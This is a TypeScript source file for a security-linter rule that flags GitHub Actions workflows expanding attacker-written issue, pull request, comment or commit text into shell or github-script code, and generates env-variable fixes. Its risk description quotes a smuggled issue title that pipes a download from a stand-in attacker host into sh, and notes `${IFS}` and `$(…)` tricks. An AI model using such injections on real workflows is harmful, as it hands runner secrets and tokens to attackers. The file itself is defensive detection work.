import { expressionsIn, type ExpressionFragment } from '../../artifacts/workflow/expressions.js';
import type { Job, Step, ValueRef, WorkflowArtifact } from '../../artifacts/workflow/workflow.js';
import { frameworks } from '../../core/frameworks.js';
import { defineRule } from '../../core/rule.js';
import { describeJobReach, stepLabel, usesAction, withInput } from './job-facts.js';

interface Source {
  pattern: RegExp;
  /** What the value is, for messages. */
  label: string;
  /** Who writes it. */
  who: string;
}

const ISSUE_AUTHOR = 'anyone who can open an issue (on a public repository, any GitHub user)';
const PR_AUTHOR = 'the author of the pull request, who can be anyone with a fork';
const COMMIT_AUTHOR = 'whoever wrote the pushed commits, contributors whose commits were merged included';
const RUN_AUTHOR = 'the author of the branch or commit that started the triggering run, a fork\'s pull request included';

// Contexts whose text an outside contributor chooses. Names are matched in lower case.
const SOURCES: Source[] = [
  { pattern: /^github\.event\.issue\.(title|body)$/, label: 'the issue $1', who: ISSUE_AUTHOR },
  { pattern: /^github\.event\.pull_request\.(title|body)$/, label: 'the pull request $1', who: PR_AUTHOR },
  { pattern: /^github\.event\.pull_request\.head\.(ref|label)$/, label: 'the pull request head branch name', who: PR_AUTHOR },
  { pattern: /^github\.event\.pull_request\.head\.repo\.default_branch$/, label: "the fork's default branch name", who: PR_AUTHOR },
  { pattern: /^github\.head_ref$/, label: 'the pull request head branch name', who: PR_AUTHOR },
  { pattern: /^github\.event\.comment\.body$/, label: 'the comment body', who: 'anyone who can comment on an issue or pull request' },
  { pattern: /^github\.event\.review\.body$/, label: 'the review body', who: 'anyone who can review the pull request' },
  { pattern: /^github\.event\.review_comment\.body$/, label: 'the review comment body', who: 'anyone who can comment on the pull request diff' },
  { pattern: /^github\.event\.discussion\.(title|body)$/, label: 'the discussion $1', who: 'anyone who can start a discussion' },
  { pattern: /^github\.event\.head_commit\.(message|author\.name|author\.email|committer\.name|committer\.email)$/, label: 'the head commit $1', who: COMMIT_AUTHOR },
  { pattern: /^github\.event\.commits\.\*\.(message|author\.name|author\.email|committer\.name|committer\.email)$/, label: 'the pushed commits\' $1', who: COMMIT_AUTHOR },
  { pattern: /^github\.event\.workflow_run\.(head_branch|display_title)$/, label: "the triggering run's $1", who: RUN_AUTHOR },
  { pattern: /^github\.event\.workflow_run\.head_commit\.(message|author\.name|author\.email|committer\.name|committer\.email)$/, label: "the triggering run's head commit $1", who: RUN_AUTHOR },
  { pattern: /^github\.event\.workflow_run\.pull_requests\.\*\.head\.ref$/, label: 'the triggering pull request head branch name', who: RUN_AUTHOR },
  { pattern: /^github\.event\.pages\.\*\.page_name$/, label: 'the wiki page name', who: 'anyone who can edit the wiki' },
];

/** Whole objects that contain attacker text, reported when serialised into the script with toJSON. */
const CONTAINERS = /^github(?:\.event(?:\.(?:issue|pull_request(?:\.head)?|comment|review|review_comment|discussion|head_commit|commits|workflow_run(?:\.head_commit)?|pages))?)?$/;

export interface TaintedRead {
  context: string;
  label: string;
  who: string;
}

/** The attacker-controlled context an expression reads, if any. */
export function taintedRead(fragment: ExpressionFragment): TaintedRead | undefined {
  for (const raw of fragment.contexts) {
    const context = raw.toLowerCase();
    for (const source of SOURCES) {
      const match = source.pattern.exec(context);
      if (match) return { context: raw, label: source.label.replace('$1', (match[1] ?? '').replace(/[._]/g, ' ')), who: source.who };
    }
  }
  if (fragment.functions.includes('tojson')) {
    const whole = fragment.contexts.find((raw) => CONTAINERS.test(raw.toLowerCase()));
    if (whole) return { context: whole, label: `the whole ${whole} object, with every title, body, branch name and message in it`, who: 'the people who write those texts: issue, pull request and commit authors' };
  }
  return undefined;
}

interface Sink {
  job: Job;
  step: Step;
  value: ValueRef;
  language: 'shell' | 'javascript';
  /** `run:` or the github-script `script:` input, for messages. */
  where: string;
}

function sinks(workflow: WorkflowArtifact): Sink[] {
  const found: Sink[] = [];
  for (const job of workflow.jobs) {
    for (const step of job.steps) {
      if (step.run) found.push({ job, step, value: step.run, language: 'shell', where: 'the `run:` script' });
      const script = usesAction(step, 'actions/github-script') ? withInput(step, 'script')?.value : undefined;
      if (script) found.push({ job, step, value: script, language: 'javascript', where: 'the actions/github-script `script:`' });
    }
  }
  return found;
}

export default defineRule({
  id: 'workflow/expression-injection',
  artifact: 'workflow',
  title: 'Attacker-controlled text expanded into a workflow script',
  category: 'ci-injection',
  severity: 'high',
  confidence: 'high',
  frameworks: frameworks('OWASP-LLM-2025:LLM03:2025', 'OWASP-ML-2023:ML06:2023', 'MITRE-ATLAS:AML.T0010', 'NIST-AI-RMF:MEASURE 2.7', 'ISO-42001:A.6.2.5', 'CWE:CWE-78', 'CWE:CWE-94'),
  control:
    'Never put `${{ }}` expressions that read issue, pull request, comment, commit or branch text into `run:` or github-script code: pass the value through `env:` and use it as a quoted variable ("$TITLE", process.env.TITLE).',
  docs: {
    summary:
      'Finds `${{ }}` expressions in `run:` scripts and in the `script:` input of actions/github-script that read text an outside contributor chooses: issue, pull request and discussion titles and bodies, comment and review bodies, head branch names (github.head_ref, pull_request.head.ref and .label, workflow_run.head_branch), commit messages and author names and emails, wiki page names, or the whole event serialised with toJSON. Each expression is reported at its exact line and column, also inside multi-line scripts.',
    risk:
      'GitHub replaces `${{ }}` with the value before the shell or Node.js sees the script, so the text becomes code: an issue titled `"; curl -sSf https://evil.example/x | sh; "` runs that command in the job. An automation job that triages issues, labels pull requests or comments benchmark results then hands its secrets, its GITHUB_TOKEN and its runner to whoever wrote the text. Branch names cannot contain spaces but `${IFS}` and `$(…)` work fine.',
    bad: {
      language: 'yaml',
      code: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo "New dataset request: ${{ github.event.issue.title }}"\n          python triage.py --title "${{ github.event.issue.title }}"',
    },
    good: {
      language: 'yaml',
      code: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: |\n          echo "New dataset request: $TITLE"\n          python triage.py --title "$TITLE"',
      note: 'In actions/github-script, read the value from process.env.TITLE or context.payload.issue.title instead.',
    },
    references: [
      { title: 'Security hardening for GitHub Actions: understanding the risk of script injections', url: 'https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections' },
      { title: 'Keeping your GitHub Actions and workflows secure: untrusted input', url: 'https://securitylab.github.com/resources/github-actions-untrusted-input/' },
    ],
  },
  check({ artifact, report }) {
    const triggers = artifact.triggers.map((trigger) => trigger.event);
    for (const sink of sinks(artifact)) {
      for (const fragment of expressionsIn(sink.value.text)) {
        const read = taintedRead(fragment);
        if (!read) continue;
        const variable = envName(read.context, fragment);
        const line = lineAround(sink.value.text.text, fragment.start, fragment.end);
        const fixed = fixedLine(sink, variable, line.before, line.after).trim();
        const where = `${sink.where} of ${stepLabel(sink.step)}${artifact.flavor === 'workflow' ? ` in job ${sink.job.id}` : ' of the composite action'}`;
        report({
          start: fragment.rawStart,
          end: fragment.rawEnd,
          location: { yamlPath: sink.value.path },
          title: `${capitalizeFirst(read.label.replace(/^the /, ''))} expanded into ${sink.language === 'shell' ? 'a shell script' : 'github-script code'}`,
          message:
            `\`\${{ ${fragment.expression} }}\` in ${where} is replaced by ${read.label} before the ${sink.language === 'shell' ? 'shell' : 'JavaScript'} runs, ` +
            `so the text becomes part of the code. ${capitalizeFirst(read.label)} is written by ${read.who}` +
            `${triggers.length ? `, and this workflow runs on ${triggers.join(', ')}` : ''}. ` +
            (sink.language === 'shell'
              ? 'Quotes, `$(…)` or backticks in it run commands in the job.'
              : 'A quote in it ends the string literal and the rest runs as JavaScript with the authenticated `github` client.'),
          evidence: `\${{ ${fragment.expression} }}`.slice(0, 120),
          blastRadius: `Injected ${sink.language === 'shell' ? 'commands run' : 'code runs'} with everything the job has. ${describeJobReach(sink.job, artifact)}`,
          identity: `${sink.value.path}:${fragment.expression}`,
          recommendation:
            `Pass the value through the step's environment and use the variable: add \`env: ${variable}: \${{ ${fragment.expression} }}\` to the step and write ${sink.language === 'shell' ? `"$${variable}" (quoted)` : `process.env.${variable}`} where the expression was.`,
          fix: {
            description: `${capitalizeFirst(read.label.replace(/^the /, ''))} passed through env instead of expanded into the ${sink.language === 'shell' ? 'script' : 'code'}`,
            snippet: `env:\n  ${variable}: \${{ ${fragment.expression} }}\n${sink.language === 'shell' ? 'run' : 'script'}: |\n  ${fixed}`,
            language: 'yaml',
          },
        });
      }
    }
  },
});

/** ISSUE_TITLE for github.event.issue.title, PR_HEAD_REF for github.event.pull_request.head.ref. */
function envName(context: string, fragment: ExpressionFragment): string {
  const base = context
    .replace(/^github\.event\.?/i, '')
    .replace(/^github\.?/i, '')
    .split('.')
    .filter((part) => part && part !== '*')
    .map((part) => (part.toLowerCase() === 'pull_request' ? 'pr' : part))
    .join('_')
    .toUpperCase()
    .replace(/[^A-Z0-9_]/g, '_');
  const name = base || 'EVENT';
  return fragment.functions.includes('tojson') ? `${name}_JSON` : name;
}

function lineAround(text: string, start: number, end: number): { before: string; after: string } {
  const lineStart = text.lastIndexOf('\n', start - 1) + 1;
  const lineEnd = text.indexOf('\n', end);
  return { before: text.slice(lineStart, start), after: text.slice(end, lineEnd === -1 ? text.length : lineEnd) };
}

/** The script line with the expression replaced by the variable, quoted for where the expression stood. */
function fixedLine(sink: Sink, variable: string, before: string, after: string): string {
  if (sink.language === 'javascript') {
    const quote = openQuote(before, ['"', "'", '`']);
    if (quote && before.endsWith(quote) && after.startsWith(quote)) return `${before.slice(0, -1)}process.env.${variable}${after.slice(1)}`;
    if (quote === '`') return `${before}\${process.env.${variable}}${after}`;
    if (quote) return `${before}${quote} + process.env.${variable} + ${quote}${after}`;
    return `${before}process.env.${variable}${after}`;
  }
  const shell = (sink.step.shell ?? 'bash').toLowerCase();
  if (shell.startsWith('pwsh') || shell.startsWith('powershell')) return `${before}$env:${variable}${after}`;
  if (shell.startsWith('cmd')) return `${before}%${variable}%${after}`;
  if (shell.startsWith('python')) return `${before}os.environ["${variable}"]${after}`;
  const quote = openQuote(before, ['"', "'"]);
  if (quote === "'" && before.endsWith(quote) && after.startsWith(quote)) return `${before.slice(0, -1)}"$${variable}"${after.slice(1)}`;
  if (quote === '"') return `${before}$${variable}${after}`;
  if (quote === "'") return `${before}'"$${variable}"'${after}`;
  return `${before}"$${variable}"${after}`;
}

/** The quote character open at the end of `text`, if any (backslash escapes outside single quotes). */
function openQuote(text: string, quotes: string[]): string | undefined {
  let open: string | undefined;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (char === '\\' && open !== "'") i += 1;
    else if (open ? char === open : quotes.includes(char)) open = open ? undefined : char;
  }
  return open;
}

function capitalizeFirst(text: string): string {
  return text.charAt(0).toUpperCase() + text.slice(1);
}
